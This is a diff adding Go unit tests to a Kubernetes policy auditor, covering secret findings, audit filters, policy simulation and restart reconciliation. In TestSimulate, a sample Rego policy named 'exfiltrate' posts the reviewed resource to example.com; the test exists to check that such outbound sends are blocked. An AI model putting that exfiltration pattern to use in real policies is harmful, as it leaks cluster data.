@@ -2,6 +2,8 @@ package auditor
 
 import (
 	"context"
+	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -69,7 +71,7 @@ func TestConstraintsCache(t *testing.T) {
 
 	ew := mocks.EntitiesWatcherMock{Entities: entities, Parents: parents}
 
-	aud := NewAuditor(&ew)
+	aud := NewAuditor(&ew, false)
 	aud.SetAuditResultHandler(func(auditResult []*agent.AuditResult) error {
 		results = append(results, auditResult...)
 		return nil
@@ -109,3 +111,204 @@ func TestConstraintsCache(t *testing.T) {
 		}
 	}
 }
+
+func TestAuditSecretFindings(t *testing.T) {
+	aud := NewAuditor(&mocks.EntitiesWatcherMock{}, true)
+	resource := &unstructured.Unstructured{Object: map[string]interface{}{
+		"apiVersion": "apps/v1",
+		"kind":       "Deployment",
+		"metadata": map[string]interface{}{
+			"name":      "web",
+			"namespace": "default",
+		},
+	}}
+	findings := []kuber.SecretFinding{
+		{Detector: "aws-access-key", Location: "spec.template.spec.containers[web].env[AWS_ACCESS_KEY_ID]"},
+		{Detector: "connection-string", Location: "spec.template.spec.containers[web].args[1]"},
+	}
+
+	results := aud.auditSecretFindings(&secretFindingsEvent{Resource: resource, Findings: findings})
+	if len(results) != 2 {
+		t.Fatalf("expected a violation per finding, got %d results", len(results))
+	}
+	for _, result := range results {
+		if result.Status != agent.AuditResultStatusViolating || *result.ConstraintID != SecretsConstraintID {
+			t.Errorf("unexpected result %+v", result)
+		}
+	}
+
+	results = aud.auditSecretFindings(&secretFindingsEvent{Resource: resource, Findings: findings})
+	if len(results) != 0 {
+		t.Errorf("unchanged findings should not be reported again, got %d results", len(results))
+	}
+
+	results = aud.auditSecretFindings(&secretFindingsEvent{Resource: resource})
+	if len(results) != 1 || results[0].Status != agent.AuditResultStatusCompliant {
+		t.Errorf("expected a single compliance once the findings are fixed, got %+v", results)
+	}
+}
+
+func TestAuditCommand(t *testing.T) {
+	resource := &unstructured.Unstructured{Object: map[string]interface{}{
+		"apiVersion": "apps/v1",
+		"kind":       "Deployment",
+		"metadata": map[string]interface{}{
+			"name":      "web",
+			"namespace": "default",
+			"labels":    map[string]interface{}{"app": "web", "tier": "frontend"},
+		},
+	}}
+
+	tests := []struct {
+		filter agent.AuditFilter
+		want   bool
+	}{
+		{agent.AuditFilter{}, true},
+		{agent.AuditFilter{Namespaces: []string{"kube-system", "default"}, Kinds: []string{"deployment"}}, true},
+		{agent.AuditFilter{Names: []string{"api"}}, false},
+		{agent.AuditFilter{Kinds: []string{"StatefulSet"}}, false},
+		{agent.AuditFilter{LabelSelector: "app=web,tier in (frontend)"}, true},
+		{agent.AuditFilter{LabelSelector: "app=web", Namespaces: []string{"production"}}, false},
+		{agent.AuditFilter{LabelSelector: "!tier"}, false},
+	}
+	for _, tt := range tests {
+		command, err := newAuditCommand(tt.filter)
+		if err != nil {
+			t.Fatalf("newAuditCommand(%+v) error = %v", tt.filter, err)
+		}
+		if got := command.matches(resource); got != tt.want {
+			t.Errorf("matches(%+v) = %v, want %v", tt.filter, got, tt.want)
+		}
+	}
+
+	aud := NewAuditor(&mocks.EntitiesWatcherMock{}, false)
+	if _, err := aud.HandleAuditCommand(agent.AuditFilter{LabelSelector: "app in ("}); err == nil {
+		t.Errorf("HandleAuditCommand() should refuse an invalid label selector")
+	}
+}
+
+func TestSimulate(t *testing.T) {
+	ew := mocks.EntitiesWatcherMock{Entities: map[kuber.GroupVersionResourceKind][]unstructured.Unstructured{
+		kuber.Deployments: {
+			{Object: map[string]interface{}{
+				"apiVersion": "apps/v1",
+				"kind":       "Deployment",
+				"metadata":   map[string]interface{}{"name": "web", "labels": map[string]interface{}{"owner": "bob"}},
+			}},
+			{Object: map[string]interface{}{
+				"apiVersion": "apps/v1",
+				"kind":       "Deployment",
+				"metadata":   map[string]interface{}{"name": "api", "namespace": "default"},
+			}},
+		},
+	}}
+	aud := NewAuditor(&ew, false)
+	aud.SetAuditResultHandler(func(auditResult []*agent.AuditResult) error {
+		t.Errorf("simulated results should not be sent")
+		return nil
+	})
+
+	simulation, err := aud.Simulate([]*agent.Constraint{
+		{
+			Name:       "missing owner label",
+			Code:       "package magalix.advisor.labels.missing_label\n\nlabel := input.parameters.label\n\nviolation[result] {\n  not input.review.object.metadata.labels[label]\n  result = {\n    \"msg\": sprintf(\"you are missing a label with the key '%v'\", [label]),\n  }\n}\n",
+			Parameters: map[string]interface{}{"label": "owner"},
+		},
+		{Name: "broken", Code: "not rego"},
+		{
+			Name: "exfiltrate",
+			Code: "package magalix.advisor.exfiltrate\n\nviolation[result] {\n  http.send({\"method\": \"post\", \"url\": \"http://example.com\", \"body\": input})\n  result = {\"msg\": \"sent\"}\n}\n",
+		},
+	}, 10)
+	if err != nil {
+		t.Fatalf("Simulate() error = %v", err)
+	}
+
+	if simulation.Resources != 2 || len(simulation.Constraints) != 3 {
+		t.Fatalf("Simulate() = %+v", simulation)
+	}
+	owner := simulation.Constraints[0]
+	if owner.Matched != 2 || owner.Violating != 1 || owner.Compliant != 1 ||
+		len(owner.Samples) != 1 || owner.Samples[0].Name != "api" || owner.Samples[0].Namespace != "default" {
+		t.Errorf("Simulate() owner label = %+v", owner)
+	}
+	if broken := simulation.Constraints[1]; broken.Error == "" || broken.Matched != 0 {
+		t.Errorf("Simulate() broken = %+v, want a parse error", broken)
+	}
+	if exfiltrate := simulation.Constraints[2]; !strings.Contains(exfiltrate.Error, "http.send") || exfiltrate.Matched != 0 {
+		t.Errorf("Simulate() exfiltrate = %+v, want http.send to be undefined", exfiltrate)
+	}
+	if aud.opa.GetConstraintsSize() != 0 {
+		t.Errorf("simulated constraints should not be installed")
+	}
+}
+
+func TestReconcileSecretFindings(t *testing.T) {
+	object := func(kind, name string) unstructured.Unstructured {
+		return unstructured.Unstructured{Object: map[string]interface{}{
+			"apiVersion": "v1",
+			"kind":       kind,
+			"metadata":   map[string]interface{}{"name": name, "namespace": "default"},
+		}}
+	}
+	ew := mocks.EntitiesWatcherMock{Entities: map[kuber.GroupVersionResourceKind][]unstructured.Unstructured{
+		kuber.Deployments: {object("Deployment", "leaky"), object("Deployment", "fixed"), object("Deployment", "clean")},
+		kuber.Secrets:     {object("Secret", "fixed")},
+		kuber.Services:    {object("Service", "fixed")},
+	}}
+	finding := []kuber.SecretFinding{{Detector: "aws-access-key", Location: "metadata.annotations[key]"}}
+	path := filepath.Join(t.TempDir(), SecretFindingsFileName)
+
+	// findings reported before the restart
+	before := NewAuditor(&ew, true)
+	before.SetSecretFindingsFile(path)
+	before.SetAuditResultHandler(func([]*agent.AuditResult) error { return nil })
+	for _, kind := range []string{"Deployment", "Secret", "Service"} {
+		fixed := object(kind, "fixed")
+		before.auditSecretFindings(&secretFindingsEvent{Resource: &fixed, Findings: finding})
+	}
+	leaky := object("Deployment", "leaky")
+	before.auditSecretFindings(&secretFindingsEvent{Resource: &leaky, Findings: finding})
+
+	var results []*agent.AuditResult
+	aud := NewAuditor(&ew, true)
+	aud.SetSecretFindingsFile(path)
+	aud.SetAuditResultHandler(func(auditResult []*agent.AuditResult) error {
+		results = append(results, auditResult...)
+		return nil
+	})
+	aud.auditSecretFindings(&secretFindingsEvent{Resource: &leaky, Findings: finding})
+	results = nil
+	aud.reconcileSecretFindings()
+	if len(results) != 1 ||
+		*results[0].EntityName != "fixed" ||
+		*results[0].EntityKind != "Deployment" ||
+		results[0].Status != agent.AuditResultStatusCompliant {
+		t.Errorf("only the workloads fixed while restarting should be reported compliant, got %+v", results)
+	}
+
+	results = nil
+	aud.reconcileSecretFindings()
+	if len(results) != 0 {
+		t.Errorf("resources should be reconciled once, got %d results", len(results))
+	}
+	keys, err := readSecretFindings(path)
+	if err != nil {
+		t.Fatalf("readSecretFindings() error = %v", err)
+	}
+	if len(keys) != 1 || keys[0] != secretFindingsKey(&leaky) {
+		t.Errorf("readSecretFindings() = %v, want only %s", keys, secretFindingsKey(&leaky))
+	}
+
+	results = nil
+	disabled := NewAuditor(&ew, false)
+	disabled.SetSecretFindingsFile(path)
+	disabled.SetAuditResultHandler(func(auditResult []*agent.AuditResult) error {
+		results = append(results, auditResult...)
+		return nil
+	})
+	disabled.reconcileSecretFindings()
+	if len(results) != 0 {
+		t.Errorf("nothing should be reported without secret detection, got %d results", len(results))
+	}
+}